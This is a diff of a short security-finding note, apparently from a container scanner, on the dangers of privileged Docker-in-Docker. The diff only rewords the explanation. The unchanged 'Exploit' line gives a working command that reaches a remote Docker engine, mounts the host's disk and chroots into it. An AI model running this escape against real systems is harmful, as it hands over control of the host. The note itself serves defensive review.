@@ -3,10 +3,10 @@
 ## Why it matters
 A nested engine mounts file systems, makes network interfaces and cgroups, and unmasks `/proc` for the containers it
 starts; runc has no narrower recipe that works, so the official image asks for `--privileged`. The price: an inner
-`docker run --privileged -v /dev:/dev` holds the disks of the *host*, and so does whoever may command the engine.
-The finding is *critical* when something beside the flag leads out without breaking anything: a system path of the
-host is mounted, a host namespace is shared, the port is published, the engine asks nobody who they are, or the
-image's tag names no version, so that tomorrow's content is unknown.
+`docker run --privileged -v /dev:/dev` has the disks of the *host*, and so does whoever may command the engine. The
+finding is *critical* when something beside the flag leads out without breaking anything: a system path of the host is
+mounted, a host namespace is shared, the port is published, the engine's API has no authentication, or the image's tag
+names no version, so that tomorrow's content is unknown.
 
 ## Exploit
 `docker -H tcp://dind:2376 run --privileged alpine sh -c 'mkdir /h && mount /dev/sda1 /h && chroot /h'`
